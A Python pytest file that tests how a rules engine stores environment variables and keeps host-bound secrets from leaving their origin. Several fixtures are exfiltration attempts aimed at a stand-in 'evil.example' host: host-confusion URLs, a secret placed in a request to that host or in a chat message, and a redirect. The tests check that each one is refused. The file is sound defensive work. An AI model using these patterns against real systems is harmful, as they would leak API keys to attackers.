"""Variables: what rules read as `env.NAME`, by environment; secrets go to their hosts and nowhere else."""

from typing import Any

import httpx
import pytest

from integrations.bindings import may_go_to, origin_of
from rules import interventions, variables
from rules.models import StepContent, Variable
from rules.problems import Refused
from rules.variables import Variables, Wish, named_in
from supportops.redaction import MASK
from supportops.tenancy.scope import working_for
from tests.builders import World
from tests.rules.engine import MESSAGE, TOOL, Desk

KEY = "sk-canary-0123456789"
HOST = "tools.example.com"


def request(**parameters: Any) -> dict[str, Any]:
    return {"id": "call", "action": "http_request", "parameters": {"method": "POST", "url": TOOL, **parameters}}


# --- where secrets may go ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("binding", "url", "goes"),
    [
        ("api.example.com", "https://api.example.com/x?y=z", True),
        ("API.Example.com", "https://api.EXAMPLE.com:443/", True),
        ("api.example.com:8443", "https://api.example.com:8443/", True),
        ("api.example.com", "https://api.example.com:8443/", False),
        ("api.example.com", "http://api.example.com/", False),
        ("api.example.com", "https://api.example.com.evil.example/", False),
        ("api.example.com", "https://evil.example/?https://api.example.com", False),
        ("api.example.com", "https://api.example.com@evil.example/", False),
        ("https://[2606:4700::1]", "https://[2606:4700::1]/x", True),
    ],
)
def test_a_secret_goes_to_its_own_origin_alone(binding: str, url: str, goes: bool) -> None:
    assert may_go_to(url, [binding]) is goes


@pytest.mark.parametrize(
    "bad", ["", "a b", "https://a/b", "ftp://a", "a:b", "u@a", "https://", "*", "http://plain.example"]
)
def test_what_is_no_host_is_refused(bad: str) -> None:
    with pytest.raises(ValueError, match=r"host|port"):
        origin_of(bad)


def test_names_are_found_wherever_an_expression_has_them() -> None:
    parameters = {"a": ["x {{ env.ONE }}", {"b": '{{ env["TWO"] + env.?THREE.orValue("") }}'}], "c": "env.NOT"}
    assert named_in(parameters, "{{ env.FOUR == 'x' }}") == {"ONE", "TWO", "FOUR"}
    assert named_in({"a": "{{ ticket.id }}"}) is None


# --- in steps ---------------------------------------------------------------------------------------------------
@pytest.fixture
def kept(desk: Desk) -> Desk:
    with working_for(desk.organization):
        variables.create(Wish("REGION", "all"))
        variables.create(Wish("REGION", "eu", environment="prod"))
        variables.create(Wish("LIMIT", 5))
        variables.create(Wish("KEY", KEY, is_secret=True, hosts=(HOST,)))
    return desk


engine = pytest.mark.django_db(transaction=True)


def start(desk: Desk, step: dict[str, Any], environment: str = "", **inputs: Any) -> None:
    rule = desk.rule(step, trigger={"platform": "manual"})
    with working_for(desk.organization):
        interventions.start(rule, inputs, environment=environment)
    desk.perform()


@engine
@pytest.mark.parametrize(("environment", "region"), [("", "all"), ("dev", "all"), ("prod", "eu")])
def test_the_value_of_the_environment_comes_first(kept: Desk, environment: str, region: str) -> None:
    start(kept, request(json={"r": "{{ env.REGION }}", "n": "{{ env.LIMIT + 1 }}"}), environment)
    assert kept.platform.bodies(TOOL) == [{"r": region, "n": 6}]


@engine
def test_a_secret_is_sent_to_its_host_and_kept_nowhere(kept: Desk) -> None:
    kept.platform.on("POST", TOOL, {"you_sent": KEY})
    start(kept, request(headers={"X-Key": "{{ env.KEY }}"}, json={"again": "key {{ env.KEY }}"}))
    [sent] = kept.platform.requests
    assert sent.headers["x-key"] == KEY
    with working_for(kept.organization):
        content = StepContent.objects.get(step=kept.step("call"))
    assert content.output["body"] == {"you_sent": MASK}
    assert KEY not in str(content.parameters)
    assert content.parameters["json"]["again"] == f"key {MASK}"


@engine
@pytest.mark.parametrize(
    "step",
    [
        request(url="https://evil.example/{{ ticket.id }}", json={"k": "{{ env.KEY }}"}),
        {**MESSAGE, "parameters": {"channel": "#desk", "message": "{{ env.KEY }}"}},
    ],
)
def test_a_secret_that_would_go_elsewhere_is_refused_when_saved(kept: Desk, step: dict[str, Any]) -> None:
    with pytest.raises(Refused) as refused:
        kept.rule(step)
    assert refused.value.problems[0].code in ("secret_host", "secret_not_allowed")


@engine
def test_a_secret_that_would_go_elsewhere_is_not_sent(kept: Desk) -> None:
    start(kept, request(url="{{ inputs.url }}", json={"k": "{{ env.KEY }}"}), url="https://evil.example/x")
    assert kept.platform.requests == []
    step = kept.step("call")
    assert (step.status, step.error_class) == ("failed", "Forbidden")
    assert f"'KEY' is a secret for {HOST}" in step.error


@engine
def test_a_name_that_is_only_known_at_run_time_finds_no_secret(kept: Desk) -> None:
    start(
        kept, request(json={"k": "{{ env[inputs.name] }}", "r": "{{ env[inputs.other] }}"}), name="KEY", other="REGION"
    )
    assert kept.platform.bodies(TOOL) == [{"k": None, "r": "all"}]


@engine
def test_a_redirect_does_not_take_a_secret_along(kept: Desk) -> None:
    kept.platform.on("GET", TOOL, lambda _: httpx.Response(302, headers={"location": "https://evil.example/"}))
    start(kept, {"id": "call", "action": "http_request", "parameters": {"url": TOOL + "?k={{ env.KEY }}"}})
    assert {request.url.host for request in kept.platform.requests} == {HOST}
    assert KEY not in kept.step("call").error


@engine
def test_a_variable_that_is_missing_is_a_warning_when_saved_and_a_failure_when_run(kept: Desk) -> None:
    start(kept, request(json={"k": "{{ env.NOWHERE }}"}))
    assert kept.platform.requests == []
    assert "There is no variable 'NOWHERE'" in kept.step("call").error
    start(kept, request(json={"k": "{{ env.?NOWHERE.orValue('none') }}"}))
    assert kept.platform.bodies(TOOL) == [{"k": "none"}]


@engine
def test_a_rotated_secret_holds_at_once_and_a_rule_needs_no_change(kept: Desk) -> None:
    step = request(headers={"X-Key": "{{ env.KEY }}"})
    start(kept, step)
    with working_for(kept.organization):
        row = Variable.objects.get(name="KEY")
        variables.change(row, Wish("KEY", "sk-another-0123", is_secret=True, hosts=(HOST,)))
    start(kept, step)
    assert [request.headers["x-key"] for request in kept.platform.requests] == [KEY, "sk-another-0123"]


@engine
def test_steps_without_variables_ask_for_none(kept: Desk, django_assert_max_num_queries: Any) -> None:
    assert "_rows" not in vars(Variables())
    kept.rule(MESSAGE)
    kept.ticket()
    with django_assert_max_num_queries(200) as queries:
        kept.perform()
    assert not any("rules_variable" in query["sql"] for query in queries.captured_queries)


# --- the API ----------------------------------------------------------------------------------------------------
@pytest.mark.django_db
class TestApi:
    def made(self, world: World, **fields: Any) -> Any:
        return world.ada.api.post("/api/variables/", {"name": "KEY", **fields}, format="json")

    def test_a_secret_is_write_only(self, world: World) -> None:
        made = self.made(world, value=KEY, secret=True, hosts=["api.example.com"])
        assert (made.status_code, made.json()["value"], made.json()["warnings"]) == (201, None, [])
        row = world.ada.api.get(f"/api/variables/{made.json()['id']}/").json()
        assert (row["value"], row["hosts"]) == (None, ["api.example.com"])
        audit = world.ada.api.get("/api/audit/logs?resource_type=variable")
        assert KEY not in audit.content.decode()
        assert audit.json()["results"][0]["changes"]["name"] == "KEY"

    def test_new_hosts_and_becoming_readable_ask_for_the_value_again(self, world: World) -> None:
        made = self.made(world, value=KEY, secret=True, hosts=["api.example.com"]).json()
        address = f"/api/variables/{made['id']}/"
        for change in ({"hosts": ["evil.example"]}, {"secret": False, "hosts": []}):
            refused = world.ada.api.patch(address, change, format="json")
            assert (refused.status_code, refused.json()["errors"][0]["attr"]) == (400, "value")
        fewer = world.ada.api.patch(address, {"name": "KEY2"}, format="json")
        assert (fewer.status_code, fewer.json()["name"]) == (200, "KEY2")
        moved = world.ada.api.patch(address, {"hosts": ["new.example"], "value": "another-value"}, format="json")
        assert moved.json()["hosts"] == ["new.example"]

    @pytest.mark.parametrize(
        ("fields", "attr"),
        [
            ({}, "value"),
            ({"value": {"a": 1}}, "value"),
            ({"value": "x" * 70_000}, "value"),
            ({"value": "x", "hosts": ["a.example"]}, "hosts"),
            ({"value": "x" * 9, "secret": True}, "hosts"),
            ({"value": 5, "secret": True, "hosts": ["a.example"]}, "value"),
            ({"value": "x" * 9, "secret": True, "hosts": ["a.example", "b/c"]}, "hosts.1"),
            ({"value": "x", "environment": "moon"}, "environment"),
            ({"value": "x", "name": "9 lives"}, "name"),
            ({"value": "x", "colour": "red"}, "colour"),
        ],
    )
    def test_bad_input_is_told_with_its_place(self, world: World, fields: dict[str, Any], attr: str) -> None:
        answer = self.made(world, **fields)
        assert (answer.status_code, answer.json()["errors"][0]["attr"]) == (400, attr)

    def test_names_are_unique_by_environment(self, world: World) -> None:
        assert self.made(world, value="a").status_code == 201
        assert self.made(world, value="b", environment="prod").status_code == 201
        for fields in ({"value": "c"}, {"value": "d", "environment": "prod"}):
            answer = self.made(world, **fields)
            assert answer.json()["errors"][0]["code"] == "not_unique"

    def test_a_short_secret_is_taken_with_a_warning(self, world: World) -> None:
        made = self.made(world, value="short", secret=True, hosts=["a.example"])
        assert "cannot be masked" in made.json()["warnings"][0]


@pytest.mark.django_db
def test_a_trial_shows_dots_for_a_secret(world: World) -> None:
    world.ada.api.post("/api/variables/", {"name": "KEY", "value": KEY, "secret": True, "hosts": [HOST]}, format="json")
    rule = {
        "name": "Call",
        "trigger": {"platform": "freshdesk", "event": "ticket_created"},
        "steps": [request(headers={"X-Key": "{{ env.KEY }}"})],
    }
    tried = world.ada.api.post("/api/rules/test", {"document": rule, "sample": True}, format="json").json()
    assert KEY not in str(tried)
    assert tried["steps"][0]["error"] is None


@pytest.mark.django_db
def test_a_deleted_environment_keeps_no_variable_alone(world: World) -> None:
    with working_for(world.ada.organization):
        variables.create(Wish("REGION", "eu", environment="prod"))
    prod = next(e for e in world.ada.api.get("/api/environments/").json()["results"] if e["name"] == "prod")
    refused = world.ada.api.delete(f"/api/environments/{prod['id']}/")
    assert (refused.status_code, "REGION" in refused.json()["errors"][0]["detail"]) == (409, True)
